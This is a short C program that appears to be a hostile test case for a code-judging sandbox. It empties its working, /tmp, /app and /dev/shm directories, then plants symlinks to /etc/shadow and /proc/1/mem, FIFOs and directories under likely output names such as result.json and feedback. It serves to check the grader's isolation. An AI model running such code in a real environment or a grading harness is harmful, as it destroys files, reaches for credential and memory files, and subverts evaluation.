/*
 * hostile: empties its directories and puts symlinks, FIFOs and directories there under likely names
 * class: output replaced by symlink, FIFO, device, directory
 * verdicts: AC
 * invariant: nothing outside the box follows a link or opens a FIFO of the submission's
 */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const likely[] = { "a.out",    "main",        "program",    "out",         "output", "stdout",
				      "stderr",   "input",       "answer",     "result.json", "result", "core",
				      "feedback", "compile.log", "Main.class", "solution" };

static void replace(const char *dir)
{
	char name[512];
	DIR *entries = opendir(dir);
	const struct dirent *entry;

	if (entries == NULL)
		return;
	while ((entry = readdir(entries)) != NULL) {
		(void)snprintf(name, sizeof(name), "%s/%s", dir, entry->d_name);
		(void)unlink(name);
	}
	(void)closedir(entries);
	for (unsigned i = 0; i < sizeof(likely) / sizeof(likely[0]); i++) {
		(void)snprintf(name, sizeof(name), "%s/%s", dir, likely[i]);
		if (i % 4 == 0)
			(void)symlink("/etc/shadow", name);
		else if (i % 4 == 1)
			(void)mkfifo(name, 0666);
		else if (i % 4 == 2)
			(void)mkdir(name, 0777);
		else
			(void)symlink("../../../../../../../../../../proc/1/mem", name);
	}
}

int main(void)
{
	replace(".");
	replace("/tmp");
	replace("/app");
	replace("/dev/shm");
	puts("held");
	return 0;
}
